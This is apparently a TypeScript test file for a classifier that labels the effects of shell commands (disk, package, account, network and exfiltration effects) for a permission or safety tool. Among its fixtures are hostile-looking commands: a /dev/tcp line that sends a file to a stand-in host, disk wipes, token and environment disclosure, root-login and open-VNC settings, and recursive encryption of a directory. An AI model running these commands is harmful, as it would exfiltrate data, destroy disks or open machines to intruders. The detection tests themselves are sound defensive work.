/** Tools that look after a machine, its disks, packages and accounts, and the commands beside it that change nothing. */
import assert from 'node:assert/strict';
import { effects } from './doing.ts';

const CASES: readonly (readonly [command: string, ...effects: string[]])[] = [
  // Networks, accounts, certificates.
  ['tailscale logout', 'tailscale: service resource logout'],
  ['tailscale up --ssh', 'tailscale: permission resource tailnet'],
  ['tailscale up'],
  ['tailscale status'],
  ['pw userdel bob', 'pw: account user bob'],
  ['ipa user-del bob', 'ipa: account user user-del'],
  ['ipa user-find bob'],
  ['step ca revoke 123', 'step: delete resource 123', 'step: delete -r resource 123'],
  ['step certificate inspect cert.pem'],
  ['trust anchor ca.pem', 'trust: account resource ca.pem'],
  ['trust list'],
  ['certutil -A -n x -t CT,, -i ca.pem -d sql:db', 'certutil: account resource trust'],
  ['certutil -L -d sql:db'],
  ['openssl ca -revoke cert.pem', 'openssl: delete -r resource certificate'],
  // Settings, clock, power.
  ['defaults delete com.apple.dock', 'defaults: delete -r resource com.apple.dock'],
  ['defaults delete com.apple.dock autohide'],
  ['date 010100002001', 'date: kernel resource clock'],
  ['date +%Y%m%d'],
  [
    'systemctl start reboot.target',
    'systemctl: service service reboot.target',
    'systemctl: power resource machine',
  ],
  ['ipmitool chassis power off', 'ipmitool: power resource machine'],
  ['ipmitool chassis power status'],
  ['softwareupdate --list'],
  ['crudini --set /etc/x.ini a b c', 'crudini: write system /etc/x.ini'],
  ['crudini --get /etc/x.ini a b'],
  [
    'augtool set /files/etc/ssh/sshd_config/PermitRootLogin yes',
    'augtool: write system /etc/ssh/sshd_config',
  ],
  // What is shown.
  ['ps auxe', 'ps: reveal key environment of processes'],
  ['ps aux'],
  ['ps -e'],
  ['glab config get token', 'glab: reveal key token'],
  ['glab config get editor'],
  // Disks.
  ['dc3dd wipe=/dev/sdb', 'dc3dd: erase -r device /dev/sdb'],
  ['gpart destroy -F ada0', 'gpart: erase -r volume ada0'],
  ['gpart show ada0'],
  ['lvm lvremove -y vg/x', 'lvremove: delete -r volume vg/x'],
  ['vgchange -an', 'vgchange: modify volume -an'],
  ['vgchange -ay'],
  ['xfs_db -r /dev/sda1'],
  ['xfs_io -c "fpunch 0 1g" data.img', 'xfs_io: modify volume data.img'],
  ['mkfs.ext4 -n /dev/sdb1'],
  ['mknod /tmp/sda b 8 0', 'mknod: modify volume /tmp/sda'],
  ['mknod /tmp/p p'],
  // Packages.
  ['cabal install https://x.example/a.tgz', 'cabal: install url x.example'],
  ['cabal install text'],
  ['mix archive.install github someone/x', 'mix: install url github.com'],
  ['chezmoi init --apply someone', 'chezmoi: install url github.com'],
  ['chezmoi init'],
  ['dnf copr enable someone/x', 'dnf: install url copr someone/x'],
  ['dnf copr list'],
  ['brew bundle cleanup --force', 'brew: uninstall package packages'],
  ['brew bundle'],
  ['conan remove "x/*" -r prod', 'conan: delete -r resource x/*'],
  ['conan remove "x/*" -c'],
  ['nix-store --gc', 'nix-store: uninstall package *'],
  ['nix-store -q --references /nix/store/x'],
  // Edits in place.
  ['sd a b /etc/hosts', 'sd: write system /etc/hosts'],
  ['sd a b'],
  ['xmlstarlet ed -L -d //x /etc/x.xml', 'xmlstarlet: write system /etc/x.xml'],
  ['xmlstarlet sel -t -v //x /etc/x.xml'],
  ['ccrypt -e -r /srv/docs', 'ccrypt: erase -r outside /srv/docs'],
  ['ccrypt -d x.cpt'],
  // Others are let in, or traffic is led elsewhere.
  ['x11vnc -forever -nopw', 'x11vnc: listen resource tunnel by x11vnc'],
  ['vncserver -list'],
  ['iodine -f x.example', 'iodine: listen resource tunnel by iodine'],
  ['exportfs -v'],
  ['xhost +', 'xhost: permission resource display'],
  ['xhost'],
  ['openvpn --config x.ovpn', 'openvpn: firewall resource network'],
  ['openvpn --version'],
  ['puppet agent -t', 'puppet: modify resource machine'],
  ['puppet agent -t --noop'],
  // A socket carries what the command puts out.
  [
    'cat notes.txt > /dev/tcp/x.example/80',
    'cat: read workspace /home/dev/app/notes.txt',
    'cat: connect host x.example',
    'cat: send host x.example +file',
  ],
  ['echo hello > /dev/tcp/x.example/80', 'echo: connect host x.example', 'echo: send host x.example'],
];

describe('words of host tools', () => {
  for (const [command, ...expected] of CASES) it(command, () => assert.deepEqual(effects(command), expected));
});
